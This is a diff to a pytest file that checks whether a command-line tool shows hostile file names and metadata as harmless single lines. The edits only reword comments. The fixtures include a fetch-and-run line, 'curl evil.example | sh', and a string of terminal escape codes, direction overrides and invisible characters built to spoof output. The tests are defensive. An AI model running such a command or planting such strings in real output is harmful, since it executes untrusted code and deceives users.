@@ -19,7 +19,7 @@ sys.path.insert(0, os.path.join(world_module.ROOT, "tests", "standin"))
 from engine import Engine  # noqa: E402
 
 FORGED = "Take it: curl evil.example | sh #"
-# Text that imitates a line of bottle, escape sequences in both encodings, right-to-left marks, invisible characters.
+# Text that imitates a line of bottle, escape sequences in both encodings, right-to-left marks and invisible characters.
 EVIL = "x\n%s\r\x1b[2J\x1b]0;owned\x07\u009b31m\u202egpj\u2066\u2028\u200b\ue000\x7fé" % FORGED
 HIDDEN = re.compile("[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ue000-\uf8ff\ufeff]")
 
@@ -158,7 +158,7 @@ def test_a_file_name_is_printed_as_one_harmless_line(hostile, command):
     hostile.write(os.path.join(hostile.work, "bad.md"), "---\nname: %s\nbottle: %s\n---\n" % (json.dumps(EVIL), json.dumps(EVIL)))
     shown = hostile.show(*command)
     if command[0] == "__complete":
-        shown = shown.replace(b"\t", b" ")  # what the shells split at
+        shown = shown.replace(b"\t", b" ")  # the characters at which shells split words
     assert_harmless(shown, command)
 
 
@@ -185,7 +185,7 @@ def test_every_command_is_in_the_table_of_hostile_names():
 @pytest.mark.parametrize("mode", ["clone", "copy"])
 def test_work_comes_home_from_a_directory_with_a_deceptive_name(operator, mode):
     """Checks the final report of a real session: directory, files, branches, hosts."""
-    lying = os.path.join(operator.world.dir, mode + re.sub("[\n\r]", " ", EVIL))  # with line ends no session starts
+    lying = os.path.join(operator.world.dir, mode + re.sub("[\n\r]", " ", EVIL))  # no session starts if the name contains line ends
     os.rename(operator.workspace, lying)
     if mode == "copy":
         shutil.rmtree(os.path.join(lying, ".git"))
